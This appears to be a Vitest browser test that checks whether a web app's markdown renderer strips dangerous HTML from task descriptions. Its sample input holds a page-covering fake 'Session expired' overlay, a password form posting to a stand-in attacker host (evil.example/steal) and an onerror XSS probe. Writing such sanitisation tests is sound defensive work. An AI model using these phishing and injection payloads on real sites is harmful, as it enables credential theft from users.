import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { noteSkip, openWorld, skipReason, type BrowserWorld } from './browser.ts';
import { signIn, type SignedIn } from './session.ts';

noteSkip();

/**
 * Markdown anyone writes (descriptions, comments, standup entries) renders with a conservative
 * list of elements and attributes and no styles (docs/operating/security.md, "Markdown"): a
 * guest's entry must not be able to cover the screen with a fake page or a form.
 */
const HOSTILE = [
  'Plain **bold** and a [link](https://example.test/doc "Doc") and `code`.',
  '',
  '<div style="position:fixed;inset:0;z-index:9999;background:white">Session expired</div>',
  '<style>body { display: none }</style>',
  '<form action="https://evil.example/steal"><input name="password" type="password"><button>Sign in</button></form>',
  '<svg width="100" height="100"><rect width="100" height="100" /></svg>',
  '<details open><summary>More</summary>hidden</details>',
  '<span class="app-shell" id="root" style="color:red">styled</span>',
  '<img src="https://example.test/x.png" alt="picture" onerror="alert(1)" style="width:9999px">',
  '',
  '| a | b |',
  '|---|---|',
  '| 1 | 2 |',
].join('\n');

describe.skipIf(skipReason !== null)('markdown in Chromium', { timeout: 180_000 }, () => {
  let w: BrowserWorld;
  let owner: SignedIn;
  beforeAll(async () => {
    w = await openWorld();
    owner = await signIn(w);
    await w.h.project(owner.bot, 'MD', 'Markdown');
    await w.h.addMember('MD', owner.userId, 'admin');
    const created = await w.h.request('POST', '/api/v1/projects/MD/tasks/', {
      token: owner.bot.token,
      body: { title: 'Hostile description', description: HOSTILE },
    });
    expect(created.status).toBe(201);
  });
  afterAll(async () => w?.close());

  it('keeps text, emphasis, links, code, tables and images, and drops styles, forms, svg and details', async () => {
    const { page } = w;
    await page.goto('/t/MD-1');
    await page.getByRole('heading', { name: /Hostile description/ }).waitFor();
    const markdown = page.locator('.markdown').first();
    await markdown.locator('strong').waitFor();
    const found = await markdown.evaluate((root) => ({
      tags: [...new Set([...root.querySelectorAll('*')].map((e) => e.tagName.toLowerCase()))].sort(),
      attributes: [...new Set([...root.querySelectorAll('*')].flatMap((e) => e.getAttributeNames()))].sort(),
      text: root.textContent ?? '',
    }));
    expect(
      found.tags.filter((t) => ['style', 'form', 'input', 'button', 'svg', 'rect', 'details', 'summary'].includes(t)),
    ).toEqual([]);
    expect(found.attributes).not.toContain('style');
    expect(found.attributes).not.toContain('class');
    expect(found.attributes).not.toContain('id');
    expect(found.attributes).not.toContain('onerror');
    expect(found.tags).toEqual(expect.arrayContaining(['strong', 'a', 'code', 'table', 'td', 'img']));
    expect(found.text).toContain('Session expired');
    expect(await markdown.locator('a').getAttribute('href')).toBe('https://example.test/doc');
    expect(await markdown.locator('a').getAttribute('rel')).toBe('noopener noreferrer nofollow');
    // Nothing covers the page: the task's heading is still what is on top at its place.
    const heading = page.getByRole('heading', { name: /Hostile description/ });
    const box = (await heading.boundingBox())!;
    const onTop = await page.evaluate(
      ([x, y]) => document.elementFromPoint(x!, y!)?.closest('h1, h2')?.textContent ?? '',
      [box.x + 5, box.y + box.height / 2],
    );
    expect(onTop).toContain('Hostile description');
  });
});
